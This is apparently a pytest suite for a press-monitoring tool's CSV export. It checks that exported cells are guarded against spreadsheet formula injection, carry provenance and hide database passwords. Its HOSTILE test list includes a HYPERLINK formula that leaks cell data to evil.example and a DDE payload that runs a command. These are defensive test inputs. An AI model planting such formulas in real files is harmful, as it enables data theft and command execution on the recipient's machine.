"""Exports: what an analyst reads back is what the screen showed, safely, with provenance."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import pytest
from sqlalchemy import insert

from monitor.coverage import coverage_counts
from monitor.export import (
    ARTICLE_COLUMNS,
    PROVENANCE_LINES,
    iter_articles,
    read_export,
    safe_cell,
    unprotect,
    write_articles_csv,
    write_summary_csv,
    write_table_csv,
)
from monitor.filters import Filters
from monitor.store import utcnow
from monitor.store.schema import classifier_models
from tests.factories import add_article

# formula injection: cells starting = + - @ tab CR; quotes and newlines inside
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rstarts with a carriage return",
    'a "quoted" word',
    "two\nlines",
    "comma, semicolon; and tab\tinside",
    "'=already looks guarded",
    "Интерпол объявил в розыск",
    "plain title",
]


def _table_part(text: str) -> str:
    """The CSV after the provenance block of plain `# ` lines."""
    lines = text.removeprefix("\ufeff").splitlines(keepends=True)
    assert all(line.startswith("# ") for line in lines[:PROVENANCE_LINES])
    return "".join(lines[PROVENANCE_LINES:])


def _reparse_all_quoted(text: str) -> bool:
    """True when every cell of the table was quoted: re-writing with QUOTE_ALL gives it back."""
    table = _table_part(text)
    rows = list(csv.reader(io.StringIO(table, newline="")))
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return again.getvalue() == table


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_guards_formulas_and_is_reversible(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unprotect(cell) == text


@pytest.mark.parametrize("value,cell", [(-0.5, "-0.5"), (3, "3"), (None, ""), (True, "true"), (float("nan"), ""), (date(2025, 3, 4), "2025-03-04"), (datetime(2025, 3, 4, 5, 6, 7, 89), "2025-03-04 05:06:07")])
def test_numbers_and_times_are_not_text(value, cell):
    assert safe_cell(value) == cell


@pytest.fixture
def hostile_store(db):
    for i, title in enumerate(HOSTILE):
        add_article(
            db,
            title,
            datetime(2025, 3, 3 + i % 4, 10, i),
            source=HOSTILE[(i + 1) % len(HOSTILE)],
            summary=HOSTILE[(i + 2) % len(HOSTILE)],
            topics={"interpol": 0.9, "cybercrime": 0.55} if i % 2 else {"terrorism": 0.7},
            stances={"Interpol": ("AGAINST", 0.8)} if i % 3 == 0 else None,
        )
    return db


def test_articles_round_trip_equals_what_is_shown(hostile_store):
    out = io.StringIO(newline="")
    n = write_articles_csv(hostile_store, Filters(), out)
    text = out.getvalue()
    assert n == len(HOSTILE)
    assert _reparse_all_quoted(text)
    record, header, rows = read_export(io.StringIO(text, newline=""))
    assert header == list(ARTICLE_COLUMNS)
    rows = [dict(zip(header, r)) for r in rows]
    shown = list(iter_articles(hostile_store, Filters()))
    assert [r["title"] for r in rows] == [a.title for a in shown]
    assert sorted(r["title"] for r in rows) == sorted(HOSTILE)
    assert [r["source"] for r in rows] == [a.source for a in shown]
    assert [r["summary"] for r in rows] == [a.summary for a in shown]
    by_title = {r["title"]: r for r in rows}
    two_topics = by_title[HOSTILE[1]]  # the higher score first
    assert two_topics["topics"] == "interpol;cybercrime"
    assert two_topics["topic_scores"] == "interpol:0.9;cybercrime:0.55"
    assert two_topics["stance"] == "" and two_topics["published_at"] == "2025-03-04 10:01:00"
    with_stance = by_title[HOSTILE[0]]
    assert with_stance["stance"] == "Interpol:AGAINST" and with_stance["stance_scores"] == "Interpol:0.8"
    # in the raw file, every formula-looking text cell carries the guard
    raw = list(csv.reader(io.StringIO(_table_part(text), newline="")))[1:]
    for cells in raw:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_provenance_says_what_the_export_is(db):
    now = utcnow()
    with db.write() as conn:
        conn.execute(insert(classifier_models).values(kind="topics", version="topics-2025-03-01", created_at=now, active=True, blob=b"x", metrics={}, training={}))
        conn.execute(insert(classifier_models).values(kind="topics", version="topics-old", created_at=now, active=False, blob=b"x", metrics={}, training={}))
    add_article(db, "Interpol red notice", "2025-03-04", topics=["interpol"])
    filters = Filters(date_from=date(2025, 3, 1), date_to=date(2025, 3, 31), query='"red notice"', topics=("interpol",))
    out = io.StringIO(newline="")
    write_summary_csv(db, filters, out, by="week", group=("topic",))
    text = out.getvalue()
    lines = text.splitlines()
    assert all(line.startswith("# ") for line in lines[:PROVENANCE_LINES])
    record, header, rows = read_export(io.StringIO(text, newline=""))
    assert record["query"] == '"red notice"'
    assert record["filters"]["topics"] == ["interpol"]
    assert record["date_range"]["from"] == "2025-03-01" and record["date_range"]["to"] == "2025-03-31"
    assert [m["version"] for m in record["models"]] == ["topics-2025-03-01"]
    assert record["database"] == db.display_url()
    assert record["options"]["by"] == "week"
    assert record["exported_at"].endswith("Z") and record["product"].startswith("policing-press-monitor ")
    assert header == ["period", "topic", "count", "total", "share"]


def test_database_password_never_appears(db):
    from sqlalchemy.engine import make_url

    out = io.StringIO(newline="")
    write_articles_csv(db, Filters(), out)
    record, _, _ = read_export(io.StringIO(out.getvalue(), newline=""))
    password = make_url(db.url).password
    assert record["database"] == db.display_url()
    if password:  # the PostgreSQL half: the URL carries one
        assert f":{password}@" not in out.getvalue() and "***" in record["database"]


@pytest.mark.parametrize("by", ["day", "week", "month"])
def test_summary_equals_the_coverage_chart(hostile_store, by):
    filters = Filters(topics=("interpol",), date_from=date(2025, 3, 1), date_to=date(2025, 3, 20))
    chart = coverage_counts(hostile_store, filters, by=by, group=("topic",))
    out = io.StringIO(newline="")
    write_summary_csv(hostile_store, filters, out, by=by, group=("topic",), bom=True)
    assert out.getvalue().startswith("\ufeff")
    _, header, rows = read_export(io.StringIO(out.getvalue(), newline=""))
    rows = [dict(zip(header, r)) for r in rows]
    assert [(r["period"], r["topic"], int(r["count"]), int(r["total"]), float(r["share"])) for r in rows] == [
        (c.period.isoformat(), c.topic, c.count, c.total, c.share) for c in chart
    ]
    if by == "day":
        # 20 days, zero rows included: articles fall on the 3rd-6th only
        assert len(rows) == 20 and rows[-1]["count"] == "0" and rows[-1]["total"] == "0"


def test_articles_stream_in_batches_with_the_right_tags(hostile_store):
    whole = [(a.id, a.topics, a.stance) for a in iter_articles(hostile_store, Filters(), batch=1000)]
    small = [(a.id, a.topics, a.stance) for a in iter_articles(hostile_store, Filters(), batch=2)]
    assert whole == small and len(whole) == len(HOSTILE)


def test_table_downloads_write_exactly_the_rows_given(db):
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame(
        {"period": pd.to_datetime(["2025-03-03", "2025-03-04"]), "topic": ["=cmd", "interpol"], "count": [1, 0], "share": [0.25, float("nan")]}
    )
    out = io.StringIO(newline="")
    n = write_table_csv(list(frame.columns), frame.itertuples(index=False, name=None), out, title="Topic coverage per day", filters=Filters(query="x"), db=db)
    assert n == 2
    record, header, rows = read_export(io.StringIO(out.getvalue(), newline=""))
    assert record["export"] == "Topic coverage per day" and record["query"] == "x"
    assert header == ["period", "topic", "count", "share"]
    assert list(rows) == [["2025-03-03 00:00:00", "=cmd", "1", "0.25"], ["2025-03-04 00:00:00", "interpol", "0", ""]]


# ---- the command line -------------------------------------------------------------------


def test_cli_export_articles_to_a_file(cli, db_url, tmp_path):
    from monitor.store import Database

    db = Database(db_url)
    add_article(db, "=1+1 Interpol", "2025-03-04", topics=["interpol"], source="TASS")
    add_article(db, "Other news", "2025-03-05", source="BBC")
    db.dispose()
    target = tmp_path / "out.csv"
    code, out, err = cli("export", "articles", "--from", "2025-03-01", "--to", "2025-03-04", "--topic", "interpol", "--output", str(target), "--bom")
    assert code == 0, err
    assert "1 articles" in out
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8", newline="") as f:
        record, header, rows = read_export(f)
        rows = list(rows)
    assert record["filters"]["topics"] == ["interpol"] and record["date_range"]["to"] == "2025-03-04"
    assert [r[header.index("title")] for r in rows] == ["=1+1 Interpol"]
    assert not list(tmp_path.glob("*.part"))


def test_cli_export_summary_to_stdout_and_jsonl(cli, db_url):
    from monitor.store import Database

    db = Database(db_url)
    add_article(db, "Interpol", "2025-03-03", topics=["interpol"], source="TASS")
    add_article(db, "Interpol again", "2025-03-05", topics=["interpol"], source="TASS")
    db.dispose()
    code, out, err = cli("export", "summary", "--by", "day", "--group", "topic", "--group", "source")
    assert code == 0, err
    record, header, rows = read_export(io.StringIO(out, newline=""))
    assert header == ["period", "topic", "source", "count", "total", "share"]
    assert [r[:4] for r in rows] == [["2025-03-03", "interpol", "TASS", "1"], ["2025-03-04", "interpol", "TASS", "0"], ["2025-03-05", "interpol", "TASS", "1"]]
    code, out, err = cli("export", "summary", "--group", "none", "--format", "jsonl")
    assert code == 0, err
    lines = [json.loads(line) for line in out.splitlines()]
    assert "provenance" in lines[0]
    assert lines[1] == {"period": "2025-03-03", "count": 1, "total": 1, "share": 1.0}


@pytest.mark.parametrize(
    "args,message",
    [
        (("export", "articles", "--from", "2025-02-30"), "--from '2025-02-30' is not a date"),
        (("export", "summary", "--to", "yesterday"), "--to 'yesterday' is not a date"),
        (("export", "summary", "--from", "2025-03-02", "--to", "2025-03-01"), "the date range is empty"),
        (("export", "articles", "--query", '"unclosed'), "unclosed quote"),
        (("export", "summary", "--by", "hour"), "invalid choice"),
        (("export", "articles", "--output", "/nonexistent-folder/x.csv"), "cannot write"),
        (("export", "articles", "--stance", "angry"), "stance must be one of"),
    ],
)
def test_cli_bad_input_is_one_line(cli, capsys, args, message):
    try:
        code, out, err = cli(*args)
    except SystemExit as e:  # argparse's own usage errors exit from the parser
        code, err = e.code, capsys.readouterr().err
    assert code != 0
    assert message in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
